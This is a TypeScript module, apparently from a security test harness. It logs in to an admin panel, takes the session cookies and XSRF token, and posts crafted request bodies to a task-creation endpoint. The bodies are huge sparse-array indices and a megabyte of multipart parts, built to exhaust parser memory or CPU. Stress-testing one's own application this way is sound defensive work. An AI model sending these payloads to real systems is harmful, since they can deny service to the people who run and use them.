import { type Attack, type Attackers, post } from './attack.js';

const PARTS = 'multipart/form-data; boundary=between-the-parts-of-a-form';

/** As many parts of a form as a megabyte holds. */
const parts = (more: string): string =>
  `${`--between-the-parts-of-a-form\r\nContent-Disposition: form-data; name="a"${more}\r\n\r\n\r\n`.repeat(11_000)}--between-the-parts-of-a-form--\r\n`;

async function consoleOf({ base, user }: Attackers): Promise<Record<string, string>> {
  const body = new URLSearchParams({ email: user.email, password: user.password });
  const headers = { origin: base, 'sec-fetch-site': 'same-origin' };
  const answer = await fetch(`${base}/admin/login`, { method: 'POST', body, headers, redirect: 'manual' });
  const cookies = answer.headers.getSetCookie().map((cookie) => cookie.split(';', 1)[0] as string);
  const token = cookies.find((cookie) => cookie.startsWith('XSRF-TOKEN='))?.slice(11) ?? '';
  return { cookie: cookies.join('; '), 'x-xsrf-token': token };
}

const form = (body: string, type = 'application/x-www-form-urlencoded'): Attack => ({
  name: `a form with ${body.length > 40 ? 'a megabyte of parts' : body}`,
  send: async (who, tally) => {
    const headers = { ...(await consoleOf(who)), 'content-type': type };
    await post(`${who.base}/admin/api/resources/tasks/actions/new`, { body, headers }, tally);
  },
});

export const forms: Attack[] = [
  form('title.30000000=x'),
  form('title.0x2dc6c0=x'),
  form('{"title":{"3000000":"x"}}', 'application/json'),
  form(parts('; filename="x"'), PARTS),
  form(parts(''), PARTS),
];
